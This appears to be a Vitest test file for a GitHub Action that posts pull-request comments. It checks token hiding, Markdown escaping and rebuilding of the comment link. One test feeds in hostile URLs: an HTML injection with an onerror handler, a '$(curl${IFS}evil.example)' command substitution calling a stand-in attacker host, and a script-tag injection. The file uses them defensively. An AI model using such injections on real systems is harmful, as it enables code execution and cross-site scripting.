/** What an outside attack on the comment found, each held: escaped tokens hidden, GitHub's shorthands broken, links rebuilt. */
import { describe, expect, it } from 'vitest';
import { postedComment } from '../src/action/pr-comment/answers.ts';
import { escape, markdownHider } from '../src/core/review/markdown.ts';

const place = {
  owner: 'octo-org',
  repo: 'media-site',
  apiUrl: 'https://api.github.com',
  graphqlUrl: 'https://api.github.com/graphql',
  webHost: 'github.com',
};
/** The text as a reader sees it: the invisible breaks and backslashes the escapes add taken out. */
const seen = (markdown: string) => markdown.replaceAll('&#8203;', '').replaceAll('\\', '');

describe('a token echoed into Markdown', () => {
  it('is hidden after escaping: a hex token cut by the SHA breaks, a token whose _ took a backslash', () => {
    const hex = 'f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5';
    const github = 'ghs_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789';
    for (const token of [hex, github]) {
      const markdown = `| ${escape(`tag ${token} and ${token.toUpperCase()}`)} |`;
      expect(seen(markdown), 'the escaped form gives it away').toContain(token);
      const hidden = markdownHider(token)(markdown);
      expect(seen(hidden)).not.toContain(token);
      expect(seen(hidden).toLowerCase()).not.toContain(token.toLowerCase());
      expect(hidden).toContain('***');
    }
  });
});

describe('escape', () => {
  it('breaks the shorthands GitHub reads after Markdown: GH-12 and :emoji:', () => {
    expect(seen(escape('fix GH-12 :+1: :octocat:'))).toBe('fix GH-12 :+1: :octocat:');
    expect(escape('fix GH-12')).not.toContain('GH-12');
    expect(escape(':octocat:')).not.toContain(':octocat:');
  });
});

describe("GitHub's link to the comment written", () => {
  it('is rebuilt from what was checked: no query or fragment of its own reaches the output or the summary', () => {
    const hostile =
      'https://github.com/octo-org/media-site/pull/7#<img/src="https://evil.example/t.png"/onerror=alert(1)>$(curl${IFS}evil.example)';
    expect(postedComment({ id: 9, html_url: hostile }, place, 7).url).toBe(
      'https://github.com/octo-org/media-site/pull/7#issuecomment-9',
    );
    expect(
      postedComment({ id: 9, html_url: 'https://GITHUB.COM:443/octo-org/media-site/pull/7?x="><script>' }, place, 7)
        .url,
    ).toBe('https://github.com/octo-org/media-site/pull/7#issuecomment-9');
    expect(() =>
      postedComment({ id: 9, html_url: 'https://github.com/octo-org/media-site/pull/7#a b' }, place, 7),
    ).toThrow();
    expect(() => postedComment({ id: 9, html_url: 'https://github.com/other/repo/pull/7' }, place, 7)).toThrow();
    expect(() =>
      postedComment({ id: 9, html_url: 'https://github.com/octo-org/media-site/pull/8' }, place, 7),
    ).toThrow();
  });
});
